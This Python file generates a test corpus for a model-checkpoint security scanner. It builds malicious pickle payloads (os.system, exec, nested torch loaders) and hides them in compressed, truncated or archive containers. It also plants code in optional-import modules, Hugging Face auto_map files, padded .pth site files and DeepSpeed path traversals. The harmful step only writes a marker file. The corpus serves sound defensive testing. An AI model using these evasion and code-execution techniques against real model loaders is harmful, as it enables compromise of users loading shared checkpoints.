"""The composing generator: payload x container x location in the folder x consumer.

``make(out_dir) -> {case: Case}`` writes one folder per case under ``out_dir``, deterministic
(same bytes every run). A case records the four axes it was composed from, which path the
consumer is pointed at (``load``), what ``scan`` is run on (``scan``) and the file that must
not pass (``blame``). Malicious payloads only create the marker ``PWNED-<case>`` in
``$CKPT_ORACLE_MARKERS`` (see ``attack_corpus``); benign twins put a dict of tensors/arrays
into the same containers. ``tests/security_oracle.py`` runs each case under its consumer and
``tests/test_gate_compose.py`` holds the gate to the property "no file whose consumer runs code
is ``safe`` or ``data``".

Axes (combinations that make no sense are not made):

* payload: ``system`` / ``exec`` (a REDUCE of ``os.system`` / ``builtins.exec``), ``writer``
  (an object with ``__reduce__`` saved by the container's own writer: ``torch.save``,
  ``joblib.dump``, ``numpy.save``, ``pickle.dumps``), and nested loaders: a ``torch.save``
  payload's bytes handed to ``torch.storage._load_from_bytes`` by REDUCE, INST or OBJ, as the
  callable argument of ``torch._tensor._rebuild_from_type_v2``, or as a ``bytearray`` built
  from a list of ints, the ninth of nine embedded files, three loaders deep; for locations, ``module`` (Python source run at import);
* container: a raw pickle, torch zip and legacy files, gzip (whole, no trailer, bad CRC,
  trailing junk), bz2 and xz cut short, lzma-alone (joblib's header and others), joblib's
  zlib, tar / tar.gz / tar.xz with one member, a one-member zip, npy object arrays, npz,
  ``joblib.dump`` outputs;
* location: the file alone; a module beside the weights named as an optional import of torch,
  DeepSpeed or accelerate; an HF folder with ``auto_map``; a ``.pth`` site file with its
  import line early or late; a DeepSpeed ``latest`` naming ``../elsewhere``;
* consumer: the oracle's loader names (``pickle``, ``torch``, ``joblib``, ``pandas``,
  ``numpy``, ``python_in_folder``, ``site_dir``, ``from_pretrained``, ``deepspeed_latest``).

    python tests/hostile/compose.py OUT_DIR
"""

from __future__ import annotations

import bz2
import functools
import gzip
import hashlib
import io
import json
import lzma
import os
import pickle
import random
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import torch

sys.path.insert(0, str(Path(__file__).parent))
from attack_corpus import Reduce, cmd, glob, payload, pycode, torch_zip

NESTED = (
    "nested_reduce",
    "nested_inst",
    "nested_obj",
    "nested_rebuild_v2",
    "nested_bytearray",
    "nested_ninth",
    "nested_deep",
)
PICKLE_PAYLOADS = ("system", "exec", "writer", *NESTED)


@dataclass
class Case:
    """One composed case; paths are relative to the corpus root."""

    payload: str
    container: str
    location: str
    consumer: str
    load: str  # what the consumer is pointed at (file or folder)
    scan: str  # what `scan` is run on
    blame: str  # the file (under `scan`) that must not be safe or data
    root: str  # the case's folder: the oracle copies it whole
    arg: str = ""  # python_in_folder: the statement run; from_pretrained: the Auto class
    malicious: bool = True
    note: str = field(default="")

    @property
    def axes(self) -> dict[str, str]:
        return {
            "payload": self.payload,
            "container": self.container,
            "location": self.location,
            "consumer": self.consumer,
        }


# ------------------------------------------------------------------------------ payloads


def _binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def _inner(case: str) -> bytes:
    """What a nested loader is handed: a real ``torch.save`` file of a ``__reduce__`` payload."""
    buf = io.BytesIO()
    torch.save(Reduce(os.system, cmd(case)), buf)
    return buf.getvalue()


@functools.cache
def _benign_inner() -> bytes:
    buf = io.BytesIO()
    torch.save({"w": torch.ones(2)}, buf)
    return buf.getvalue()


LOAD_FROM_BYTES = glob("torch.storage", "_load_from_bytes")


def pickle_payload(tech: str, case: str) -> tuple[bytes, Any]:
    """(pickle bytes, the object the writer containers save or None) for a technique."""
    if tech == "benign":
        data = {"w": np.arange(4, dtype=np.float32), "step": 3}
        return pickle.dumps(data, protocol=4), data
    if tech == "writer":
        obj = Reduce(os.system, cmd(case))
        return pickle.dumps(obj, protocol=4), obj
    if tech == "system":
        return payload(case, 2), None
    if tech == "exec":
        call = b"(S'" + pycode(case).encode() + b"'\ntR."
        return b"\x80\x02" + glob("builtins", "exec") + call, None
    inner = _binbytes(_inner(case))
    if tech == "nested_reduce":
        body = LOAD_FROM_BYTES + b"(" + inner + b"tR"
    elif tech == "nested_inst":
        body = b"(" + inner + b"itorch.storage\n_load_from_bytes\n"
    elif tech == "nested_obj":
        body = b"(" + LOAD_FROM_BYTES + inner + b"o"
    elif tech == "nested_rebuild_v2":
        body = (
            glob("torch._tensor", "_rebuild_from_type_v2")
            + b"("
            + LOAD_FROM_BYTES
            + glob("torch", "Tensor")
            + b"("
            + inner
            + b"t}tR"
        )
    elif tech == "nested_ninth":  # eight benign embedded files, the ninth the payload
        calls = [LOAD_FROM_BYTES + b"(" + _binbytes(_benign_inner()) + b"tR"] * 8
        body = b"(" + b"".join(calls) + LOAD_FROM_BYTES + b"(" + inner + b"tRl"
    elif tech == "nested_deep":  # the payload three loaders down
        deep = _inner(case)
        for _ in range(3):
            deep = torch_zip(b"\x80\x03" + LOAD_FROM_BYTES + b"(" + _binbytes(deep) + b"tR.")
        body = LOAD_FROM_BYTES + b"(" + _binbytes(deep) + b"tR"
    elif tech == "nested_bytearray":
        ints = b"".join(b"K" + bytes([x]) for x in _inner(case))
        array = glob("builtins", "bytearray") + b"(](" + ints + b"etR"
        body = LOAD_FROM_BYTES + b"(" + array + b"tR"
    else:
        raise ValueError(tech)
    return b"\x80\x03" + body + b".", None


def benign_torch_obj() -> dict[str, Any]:
    return {"w": torch.ones(2), "step": 3}


# ------------------------------------------------------------------------------ containers


def _rand(n: int, seed: int = 30) -> bytes:
    return random.Random(seed).randbytes(n)


@functools.cache
def _pad(n: int = 5 << 18) -> bytes:
    """Bytes after STOP that no unpickler reads: a stream cut short or with a bad check loses
    only these. More than joblib's 1 MiB read-ahead buffer, two-letter noise (bz2 needs whole
    100k blocks before it yields; noise keeps its run-length pass from shrinking them)."""
    return bytes(random.Random(30).choices(b"ab", k=n))


def _torch_save(obj: Any, **kw: Any) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf, **kw)
    return buf.getvalue()


def _legacy_head() -> bytes:
    """What torch's legacy writer puts before the data pickle (magic, protocol, sys info)."""
    info = {
        "protocol_version": 1001,
        "little_endian": True,
        "type_sizes": {"short": 2, "int": 4, "long": 4},
    }
    return b"".join(pickle.dumps(x, protocol=2) for x in (0x1950A86A20F9469CFC6C, 1001, info))


def _npy(pkl: bytes, obj: Any, tech: str) -> bytes:
    buf = io.BytesIO()
    if obj is not None:
        arr = np.empty(2, dtype=object)
        arr[0], arr[1] = obj, 1
        np.save(buf, arr, allow_pickle=True)
        return buf.getvalue()
    np.save(buf, np.array([None], dtype=object), allow_pickle=True)
    raw = buf.getvalue()
    head = 10 + struct.unpack("<H", raw[8:10])[0]
    return raw[:head] + pkl


def _zip_one(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
        z.writestr(info, data)
    return buf.getvalue()


def _tar_one(name: str, data: bytes, mode: str) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode, format=tarfile.GNU_FORMAT) as t:  # type: ignore[call-overload]
        info = tarfile.TarInfo(name)
        info.size, info.mtime, info.mode = len(data), 0, 0o644
        t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def _lzma_alone(data: bytes, dict_size: int | None = None, lc: int = 3) -> bytes:
    filt: dict[str, Any] = {"id": lzma.FILTER_LZMA1, "lc": lc, "lp": 0, "pb": 2}
    filt["dict_size"] = dict_size or (1 << 23)
    return lzma.compress(data, format=lzma.FORMAT_ALONE, filters=[filt])


def _joblib(obj: Any, compress: Any) -> bytes:
    import tempfile

    import joblib

    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "x.joblib")
        joblib.dump(obj, p, compress=compress)
        return Path(p).read_bytes()


# container -> (file suffix, builder(pickle bytes, writer object, technique) -> file bytes)
Builder = Callable[[bytes, Any, str], bytes]


def _torch_zip(pkl: bytes, obj: Any, tech: str) -> bytes:
    if tech == "benign":
        return _torch_save(benign_torch_obj())
    return _torch_save(obj) if obj is not None else torch_zip(pkl)


def _torch_legacy(pkl: bytes, obj: Any, tech: str) -> bytes:
    if tech == "benign":
        return _torch_save(benign_torch_obj(), _use_new_zipfile_serialization=False)
    if obj is not None:
        return _torch_save(obj, _use_new_zipfile_serialization=False)
    return _legacy_head() + pkl


def _gz_no_trailer(pkl: bytes, obj: Any, tech: str) -> bytes:
    return _gz(pkl)[:-8]


def _gz_bad_crc(pkl: bytes, obj: Any, tech: str) -> bytes:
    raw = _gz(pkl + _pad())
    crc = struct.unpack("<I", raw[-8:-4])[0] ^ 0xFFFFFFFF
    return raw[:-8] + struct.pack("<I", crc) + raw[-4:]


CONTAINERS: dict[str, tuple[str, Builder]] = {
    "raw": (".pkl", lambda p, o, t: p),
    "torch_zip": (".pt", _torch_zip),
    "torch_legacy": (".pt", _torch_legacy),
    "gzip": (".gz", lambda p, o, t: _gz(p)),
    "gzip_no_trailer": (".gz", _gz_no_trailer),
    "gzip_bad_crc": (".gz", _gz_bad_crc),
    "gzip_trailing_junk": (".gz", lambda p, o, t: _gz(p) + _rand(64)),
    "bz2_cut": (".bz2", lambda p, o, t: bz2.compress(p + _pad(), 1)[:-2000]),
    "xz_cut": (".xz", lambda p, o, t: lzma.compress(p + _pad())[:-1000]),
    "lzma_alone": (".xz", lambda p, o, t: _lzma_alone(p)),
    "lzma_alone_small_dict": (".xz", lambda p, o, t: _lzma_alone(p, 1 << 16)),
    "lzma_alone_lc0": (".xz", lambda p, o, t: _lzma_alone(p, lc=0)),
    "zlib": (".z", lambda p, o, t: zlib.compress(p)),
    "tar": (".tar", lambda p, o, t: _tar_one("weights.bin", p, "w")),
    "tar_gz": (".tar.gz", lambda p, o, t: _gz(_tar_one("notes.txt", p, "w"))),
    "tar_xz": (".tar.xz", lambda p, o, t: _tar_one("model", p, "w:xz")),
    "zip_one": (".zip", lambda p, o, t: _zip_one("model.bin", p)),
    "npy_object": (".npy", _npy),
    "npz": (".npz", lambda p, o, t: _zip_one("arr_0.npy", _npy(p, o, t))),
    "joblib_dump": (".joblib", lambda p, o, t: _joblib(o, 0)),
    "joblib_dump_zlib": (".joblib", lambda p, o, t: _joblib(o, ("zlib", 3))),
    "joblib_dump_lzma": (".joblib", lambda p, o, t: _joblib(o, ("lzma", 3))),
}

# (container, consumers); the first consumer is the one a benign twin is loaded with
PAIRS: dict[str, tuple[str, ...]] = {
    "raw": ("pickle", "torch", "joblib", "pandas", "numpy"),
    "torch_zip": ("torch",),
    "torch_legacy": ("torch",),
    "gzip": ("joblib", "pandas"),
    "gzip_no_trailer": ("joblib", "pandas"),
    "gzip_bad_crc": ("joblib", "pandas"),
    "gzip_trailing_junk": ("pandas",),  # joblib.load: memory grows until the OOM killer
    "bz2_cut": ("joblib", "pandas"),
    "xz_cut": ("joblib", "pandas"),
    "lzma_alone": ("joblib", "pandas"),
    "lzma_alone_small_dict": ("joblib", "pandas"),
    "lzma_alone_lc0": ("pandas",),
    "zlib": ("joblib",),
    "tar": ("pandas",),
    "tar_gz": ("pandas",),
    "tar_xz": ("pandas",),
    "zip_one": ("pandas",),
    "npy_object": ("numpy",),
    "npz": ("numpy",),
    "joblib_dump": ("joblib",),
    "joblib_dump_zlib": ("joblib",),
    "joblib_dump_lzma": ("joblib",),
}
FULL = ("raw", "torch_zip", "torch_legacy")  # every pickle payload; others rotate the nested
WRITER_ONLY = ("joblib_dump", "joblib_dump_zlib", "joblib_dump_lzma")


def _payloads_for(container: str, index: int) -> tuple[str, ...]:
    if container in FULL:
        return PICKLE_PAYLOADS
    if container in WRITER_ONLY:
        return ("writer",)
    return ("system", "writer", NESTED[index % len(NESTED)])


# ------------------------------------------------------------------------------ locations

# optional imports a Python process makes when it imports the library (found by placing each
# candidate beside the import in a fresh process; see the module docstring of compose)
OPTIONAL_IMPORTS = (
    ("torch", "opt_einsum", "module"),
    ("torch", "pynvml", "package"),
    ("torch", "torchcomms", "module"),
    ("deepspeed", "op_builder", "package"),
    ("deepspeed", "tabulate", "module"),
    ("deepspeed", "apex", "package"),
    ("accelerate", "torch_xla", "package"),
    ("accelerate", "torch_musa", "module"),
)

HF_REMOTE = (
    ("AutoConfig", "configuration_remote.py"),
    ("AutoModel", "modeling_remote.py"),
    ("AutoTokenizer", "tokenization_remote.py"),
)

_HF_CONFIG = """from transformers import PretrainedConfig
{code}

class RemoteConfig(PretrainedConfig):
    model_type = "remote-x"
"""
_HF_MODEL = """import torch
from transformers import PreTrainedModel
{code}
from .configuration_remote import RemoteConfig


class RemoteModel(PreTrainedModel):
    config_class = RemoteConfig

    def __init__(self, config):
        super().__init__(config)
        self.lin = torch.nn.Linear(2, 2)
"""
_HF_TOKENIZER = """from transformers import PreTrainedTokenizer
{code}


class RemoteTokenizer(PreTrainedTokenizer):
    pass
"""


def _safetensors(path: Path) -> None:
    from safetensors.torch import save_file

    save_file({"w": torch.ones(2, 2)}, str(path))


class Composer:
    def __init__(self, out: Path) -> None:
        self.out = Path(out)
        self.cases: dict[str, Case] = {}

    def _dir(self, name: str) -> Path:
        d = self.out / name
        d.mkdir(parents=True, exist_ok=False)
        return d

    def add(self, name: str, case: Case) -> None:
        assert name not in self.cases, name
        self.cases[name] = case

    def containers(self) -> None:
        for index, (container, consumers) in enumerate(PAIRS.items()):
            suffix, build = CONTAINERS[container]
            for tech in _payloads_for(container, index):
                for consumer in consumers:
                    self._file_case(tech, container, consumer, suffix, build)
            self._file_case("benign", container, consumers[0], suffix, build)

    def _file_case(self, tech: str, container: str, consumer: str, suffix: str, b: Builder) -> None:
        name = f"{tech}.{container}.alone.{consumer}"
        pkl, obj = pickle_payload(tech, name)
        d = self._dir(name)
        fname = ("frame" if consumer == "pandas" else "model") + suffix
        (d / fname).write_bytes(b(pkl, obj, tech))
        rel = f"{name}/{fname}"
        self.add(
            name,
            Case(
                tech, container, "alone", consumer, rel, rel, rel, name, malicious=tech != "benign"
            ),
        )

    def beside_weights(self) -> None:
        for lib, mod, shape in OPTIONAL_IMPORTS:
            name = f"module.{shape}_{mod}.beside_weights_{lib}.python_in_folder"
            d = self._dir(name)
            _safetensors(d / "model.safetensors")
            src = pycode(name) + "\n"
            if shape == "package":
                (d / mod).mkdir()
                (d / mod / "__init__.py").write_text(src)
                blame = f"{name}/{mod}/__init__.py"
            else:
                (d / f"{mod}.py").write_text(src)
                blame = f"{name}/{mod}.py"
            self.add(
                name,
                Case("module", shape, f"beside_weights_{lib}", "python_in_folder", name, name,
                     blame, name, arg=f"import {lib}", note=f"{mod} is an optional import of {lib}"),
            )  # fmt: skip

    def hf_remote(self) -> None:
        for auto, holder in HF_REMOTE:
            name = f"module.hf_auto_map.{auto}.from_pretrained"
            d = self._dir(name)
            code = pycode(name)
            cfg: dict[str, Any] = {"model_type": "remote-x", "architectures": ["RemoteModel"]}
            cfg["auto_map"] = {
                "AutoConfig": "configuration_remote.RemoteConfig",
                "AutoModel": "modeling_remote.RemoteModel",
            }
            (d / "config.json").write_text(json.dumps(cfg, indent=2))
            texts = {"configuration_remote.py": _HF_CONFIG, "modeling_remote.py": _HF_MODEL}
            if auto == "AutoTokenizer":
                texts["tokenization_remote.py"] = _HF_TOKENIZER
                tok = {"auto_map": {"AutoTokenizer": ["tokenization_remote.RemoteTokenizer", None]}}
                (d / "tokenizer_config.json").write_text(json.dumps(tok, indent=2))
            for fname, text in texts.items():
                (d / fname).write_text(text.format(code=code if fname == holder else ""))
            _safetensors(d / "model.safetensors")
            self.add(
                name,
                Case("module", "hf_folder", "hf_auto_map", "from_pretrained", name, name,
                     f"{name}/{holder}", name, arg=auto),
            )  # fmt: skip

    def pth(self) -> None:
        for where in ("early", "late"):
            name = f"module.pth_{where}.site_dir.site_dir"
            d = self._dir(name)
            lines = [pycode(name)]  # begins with "import ": site runs the line
            if where == "late":
                pad = [f"# {i:06d} {'x' * 90}" for i in range(3000)]
                pad += [f"./data/shard_{i:05d}" for i in range(1000)]
                lines = [*pad, *lines]
            (d / "extra_paths.pth").write_text("\n".join(lines) + "\n")
            self.add(
                name,
                Case("module", f"pth_{where}", "site_dir", "site_dir", name, name,
                     f"{name}/extra_paths.pth", name),
            )  # fmt: skip

    def deepspeed_latest(self) -> None:
        for container in ("torch_zip", "torch_legacy", "raw"):
            for tech in ("system", "writer", "nested_reduce", "benign"):
                if container == "raw" and tech in ("writer", "benign"):
                    continue
                where = "inside" if tech == "benign" else "outside"
                name = f"{tech}.{container}.latest_{where}.deepspeed_latest"
                pkl, obj = pickle_payload(tech, name)
                d = self._dir(name)
                ckpt = d / "ckpt"
                ckpt.mkdir()
                tag = "global_step1" if where == "inside" else "../elsewhere/global_step1"
                (ckpt / "latest").write_text(tag)
                step = ckpt / tag
                step.mkdir(parents=True)
                _suffix, build = CONTAINERS[container]
                (step / "mp_rank_00_model_states.pt").write_bytes(build(pkl, obj, tech))
                self.add(
                    name,
                    Case(tech, container, f"latest_{where}", "deepspeed_latest", f"{name}/ckpt",
                         f"{name}/ckpt", f"{name}/ckpt/latest", name, malicious=tech != "benign"),
                )  # fmt: skip


def make(out_dir: str | Path) -> dict[str, Case]:
    """Write every case under ``out_dir`` (which must be empty or absent)."""
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    c = Composer(out)
    c.containers()
    c.beside_weights()
    c.hf_remote()
    c.pth()
    c.deepspeed_latest()
    (out / "manifest.json").write_text(
        json.dumps({k: asdict(v) for k, v in c.cases.items()}, indent=1)
    )
    return c.cases


def load_manifest(out_dir: str | Path) -> dict[str, Case]:
    raw = json.loads((Path(out_dir) / "manifest.json").read_text())
    return {k: Case(**v) for k, v in raw.items()}


def source_key() -> str:
    """A hash of the sources that decide the corpus and the oracle's answers on it."""
    here = Path(__file__).parent
    digest = hashlib.sha256()
    for p in (here / "compose.py", here / "attack_corpus.py", here.parent / "security_oracle.py"):
        digest.update(p.read_bytes())
    digest.update(torch.__version__.encode())
    return digest.hexdigest()[:16]


if __name__ == "__main__":
    cases = make(sys.argv[1])
    print(f"{len(cases)} cases, {sum(c.malicious for c in cases.values())} malicious")
